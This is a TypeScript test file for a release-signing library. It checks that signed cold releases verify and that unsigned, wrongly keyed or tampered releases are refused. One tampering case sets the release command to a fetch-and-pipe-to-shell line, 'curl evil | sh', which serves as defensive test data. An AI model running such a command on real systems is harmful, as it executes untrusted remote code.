import { type ColdRelease, isRelupError, parseColdPointer } from '@relup/core'
import { describe, expect, it } from 'vitest'
import {
  generateSigningKeyPair,
  type SignatureError,
  signColdRelease,
  signHotUpgrade,
  verifyColdRelease,
  verifyHotUpgrade,
} from '../src/index.js'
import { hotUpgrade } from './helpers.js'

const alice = generateSigningKeyPair()
const bob = generateSigningKeyPair()

const release: ColdRelease = {
  releaseId: '01J0000000000000000000000A',
  version: '2.0.0',
  artifact: { key: 'relup/shop/artifacts/cold-2.0.0-abc.tgz', sha256: 'a'.repeat(64), size: 1234 },
  command: ['node', 'server.js'],
  publishedAt: '2026-12-01T10:00:00.000Z',
  reason: 'asked for with --cold',
  publishedBy: 'ci',
}

function refusal(run: () => unknown): SignatureError {
  try {
    run()
  } catch (error) {
    expect(isRelupError(error, 'ERR_RELUP_SIGNATURE')).toBe(true)
    return error as SignatureError
  }
  throw new Error('expected a SignatureError')
}

describe('signColdRelease and verifyColdRelease', () => {
  it('a signed release verifies with its key, also after a round trip through cold.json', () => {
    const signed = signColdRelease(release, alice.privateKey)
    expect(verifyColdRelease(signed, [bob.publicKey, alice.publicKey])).toBe(alice.keyId)
    const document = { schema: 1, seq: 1, release: signed, previous: [], updatedAt: release.publishedAt }
    const parsed = parseColdPointer(JSON.parse(JSON.stringify(document, null, 2)))
    expect(verifyColdRelease(parsed.release as ColdRelease, [alice.publicKey])).toBe(alice.keyId)
  })

  it('refuses an unsigned release, one signed by another key, and one changed after signing', () => {
    expect(refusal(() => verifyColdRelease(release, [alice.publicKey])).reason).toBe('missing')
    const byBob = signColdRelease(release, bob.privateKey)
    expect(refusal(() => verifyColdRelease(byBob, [alice.publicKey])).reason).toBe('unknown-key')
    const signed = signColdRelease(release, alice.privateKey)
    for (const changed of [
      { ...signed, command: ['sh', '-c', 'curl evil | sh'] },
      { ...signed, artifact: { ...signed.artifact, sha256: 'b'.repeat(64) } },
      { ...signed, releaseId: '01J0000000000000000000000B' },
    ]) {
      const error = refusal(() => verifyColdRelease(changed, [alice.publicKey]))
      expect(error.reason).toBe('invalid')
      expect(error.message).toMatch(/cold release "2\.0\.0".*the release was not started/)
    }
  })

  it('a hot upgrade’s signature never passes for a cold release, nor the reverse (separate domains)', () => {
    const hot = signHotUpgrade(hotUpgrade(), alice.privateKey)
    const cold = signColdRelease(release, alice.privateKey)
    expect(
      refusal(() => verifyColdRelease({ ...release, signature: hot.signature }, [alice.publicKey])).reason,
    ).toBe('invalid')
    expect(
      refusal(() => verifyHotUpgrade({ ...hot, signature: cold.signature }, [alice.publicKey])).reason,
    ).toBe('invalid')
  })
})
